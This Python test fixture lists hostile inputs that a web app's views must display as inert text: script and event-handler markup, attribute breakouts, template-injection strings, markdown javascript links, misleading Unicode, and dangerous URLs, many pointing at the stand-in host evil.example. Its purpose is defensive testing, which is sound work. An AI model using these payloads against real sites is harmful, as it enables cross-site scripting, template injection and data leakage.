"""Hostile articles and questions (scripts, links, spoofing, broken text) that every view must show as inert text."""

from __future__ import annotations

OUTSIDE = "evil.example"
"""The host that hostile texts point at; the page must never send a request to it."""

_MARKUP = (
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=//evil.example/pixel.png>",
    "<img srcset='//evil.example/a.png 1x' src=data:,>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><a xlink:href='javascript:window.pwned=1'><text>x</text></a></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><use href='//evil.example/x.svg#a'/></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<iframe src='javascript:window.pwned=1'></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data='//evil.example/x.swf'></object>",
    "<embed src='//evil.example/x'>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=x onerror=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<button data-article='x' onclick=window.pwned=1>click</button>",
    "<form action='//evil.example/'><button>send</button></form>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import url(//evil.example/x.css); *{display:none}</style>",
    "<div style='background:url(//evil.example/x.png)'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href='//evil.example/'>",
    "<a href='javascript:window.pwned=1'>link</a>",
    "<a href='data:text/html,<script>window.pwned=1</script>'>link</a>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "</textarea><script>window.pwned=1</script>",
    "</mark></div></article><script>window.pwned=1</script>",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "<?xml version='1.0'?><script>window.pwned=1</script>",
    "<x onpointerenter=window.pwned=1 style=position:fixed;inset:0>",
)

_BREAKING_OUT = (
    '" onmouseover="window.pwned=1" x="',
    "' onmouseover='window.pwned=1' x='",
    "` onmouseover=`window.pwned=1`",
    '"><script>window.pwned=1</script>',
    "'><img src=x onerror=window.pwned=1>",
    '"/autofocus/onfocus=window.pwned=1//',
    "&quot; onclick=&quot;window.pwned=1",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "</script><script>window.pwned=1</script>",
)

_TEMPLATES = (
    "${window.pwned=1}",
    "`+(window.pwned=1)+`",
    "\\`;window.pwned=1;//",
    "{{constructor.constructor('window.pwned=1')()}}",
    "{{#each this}}{{/each}}",
    "{{{value}}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "@children",
    "%(x)s {0} {x!r}",
)

_MARKDOWN = (
    "![x](https://evil.example/pixel.png)",
    "[click](javascript:window.pwned=1)",
    "[x]: javascript:window.pwned=1",
    "<https://evil.example/>",
    "$$\\href{javascript:window.pwned=1}{x}$$",
)

_BROKEN = (
    "bidi \u202egnp.exe\u202c override",
    "isolate \u2066\u2067never closed",
    "zero\u200bwidth\u200djoiner\ufeff",
    "nul \x00 bell \x07 escape \x1b[31mred\x1b]0;title\x07",
    "c1 \x9b31m \x85",
    "lone surrogate \ud800 here",
    "combining " + "a" + "\u0301" * 400,
    "line\u2028separator\u2029paragraph",
    "emoji \U0001f468\u200d\U0001f469\u200d\U0001f467 and \U000e0001tags",
)

HOSTILE_TEXTS = (*_MARKUP, *_BREAKING_OUT, *_TEMPLATES, *_MARKDOWN, *_BROKEN)

HOSTILE_ADDRESSES = (
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1",
    " javascript:window.pwned=1",
    "java\tscript:window.pwned=1",
    "\x01javascript:window.pwned=1",
    "vbscript:x",
    "data:text/html,<script>window.pwned=1</script>",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "//evil.example/x",
    "/relative",
    "https:/\\evil.example",
    "https://",
    "https://user:secret@evil.example/",
    "https://[broken",
    "ftp://evil.example/x",
    "https://ok.example/\nX-Header: 1",
)
"""None of these may become a link."""

LONG_LINE = "<b>long</b> " * 90_000
"""More than a megabyte without a line break."""
